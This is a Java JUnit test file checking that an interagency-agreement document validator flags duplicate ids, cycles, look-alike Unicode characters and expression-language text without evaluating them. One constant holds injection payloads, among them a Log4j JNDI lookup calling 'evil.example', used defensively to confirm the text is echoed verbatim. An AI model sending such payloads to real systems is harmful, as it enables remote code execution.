package org.interagency.agreements.robustness;

import org.interagency.agreements.json.InvalidDocumentException;
import org.interagency.agreements.rules.Finding;
import org.interagency.agreements.rules.Report;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;
import static org.interagency.agreements.robustness.Hostiles.findings;
import static org.interagency.agreements.robustness.Hostiles.problems;
import static org.interagency.agreements.robustness.Hostiles.rejected;
import static org.interagency.agreements.robustness.Hostiles.report;

/**
 * Hostile content in well-formed documents: duplicate ids, references to no one, cycles, ids
 * and names that look like other ids and names, and text that an expression language would
 * evaluate. Each document
 * is the clean base with one change; the findings are exactly the ones that change causes.
 */
class HostileContentTest {

    /** Text that Expression Language, Spring EL, Log4j lookups and Bean Validation message keys would all evaluate. */
    private static final String EXPRESSIONS =
            "${java.version} #{7*7} {javax.validation.constraints.NotNull.message} ${jndi:ldap://evil.example/a}";

    @AfterAll
    static void writeTable() {
        Measured.writeTable("hostile-content");
    }

    @Test
    void reportsADuplicatePartyIdAtItsSecondOccurrence() {
        Report report = report("duplicate-party-id.json");
        assertThat(findings(report)).containsExactly("refs.duplicate-id /parties/2/agencyId");
        assertThat(report.findings().get(0).related()).extracting(Object::toString).containsExactly("/parties/0/agencyId");
    }

    @Test
    void reportsADuplicateIdInAList() {
        Report report = report("duplicate-milestone-id.json");
        assertThat(findings(report)).containsExactly("refs.duplicate-id /milestones/1/id");
        assertThat(report.findings().get(0).related()).extracting(Object::toString).containsExactly("/milestones/0/id");
    }

    @Test
    void reportsAReferenceToAnAgencyThatIsNotAParty() {
        assertThat(findings(report("missing-agency.json"))).containsExactly("refs.unknown-agency /sponsors/2/agencyId");
    }

    @Test
    void reportsACycleInEscalationLevels() {
        assertThat(findings(report("escalation-cycle.json"))).containsExactly("escalation.cycle /escalationPaths/0/levels/2");
    }

    @Test
    @DisplayName("a forum that repeats an earlier one with a Cyrillic о is a cycle, and a mixed-script name")
    void reportsACycleThroughALookAlikeForumName() {
        Report report = report("forum-confusable-cyrillic.json");
        assertThat(findings(report)).containsExactly("escalation.cycle /escalationPaths/0/levels/2",
                "text.mixed-script /escalationPaths/0/levels/2/forum");
        assertThat(report.findings().get(1).message()).contains("U+043E CYRILLIC SMALL LETTER O");
    }

    @Test
    void reportsACycleInParentAgencies() {
        assertThat(findings(report("parent-agency-cycle.json"))).containsExactly("parties.parent-cycle /parties/0/parentAgencyId");
    }

    @Test
    void rejectsAnIdWithARightToLeftOverride() {
        InvalidDocumentException e = rejected("id-right-to-left-override.json", InvalidDocumentException.class);
        assertThat(problems(e)).containsExactly("FORBIDDEN_CHARACTER 39:13 /responsibilities/0/id");
        assertThat(e.getMessage()).contains("\\u202E").doesNotContain("\u202e");
    }

    @Test
    void rejectsAnIdWithAZeroWidthSpace() {
        InvalidDocumentException e = rejected("id-zero-width-space.json", InvalidDocumentException.class);
        assertThat(problems(e)).containsExactly("FORBIDDEN_CHARACTER 9:13 /authorities/0/id");
        assertThat(e.getMessage()).contains("\\u200B").doesNotContain("\u200b");
    }

    @Test
    @DisplayName("an id with a Cyrillic letter that looks Latin is read, and the id constraint rejects it")
    void reportsAnIdWithAConfusableLetter() {
        assertThat(findings(report("id-confusable-cyrillic.json"))).containsExactly("model.constraint /channels/0/id");
    }

    @Test
    @DisplayName("expressions in a forum name come back verbatim in the finding, never evaluated")
    void echoesExpressionsInTextVerbatim() {
        Report report = report("expression-in-forum.json");
        assertThat(findings(report)).containsExactly("escalation.cycle /escalationPaths/0/levels/3");
        Finding cycle = report.findings().get(0);
        assertThat(cycle.message()).contains(EXPRESSIONS.substring(0, 40));
        assertThat(cycle.message()).doesNotContain(System.getProperty("java.version")).doesNotContain("49")
                .doesNotContain("must not be null");
    }

    @Test
    @DisplayName("expressions in an enum value come back verbatim in the read error, never evaluated")
    void echoesExpressionsInReadErrorsVerbatim() {
        InvalidDocumentException e = rejected("expression-in-enum.json", InvalidDocumentException.class);
        assertThat(problems(e)).containsExactly("INVALID_VALUE 5:11 /kind");
        assertThat(e.getMessage()).contains("\"${java.version}#{7*7}\"")
                .doesNotContain(System.getProperty("java.version")).doesNotContain("49");
    }

    @Test
    @DisplayName("a Bean Validation message key as an id is reported with the id message, not interpolated")
    void doesNotInterpolateMessageKeysInValues() {
        Report report = report("expression-in-id.json");
        assertThat(findings(report)).containsExactly("model.constraint /responsibilities/0/id");
        assertThat(report.findings().get(0).message()).doesNotContain("must not be null");
    }
}
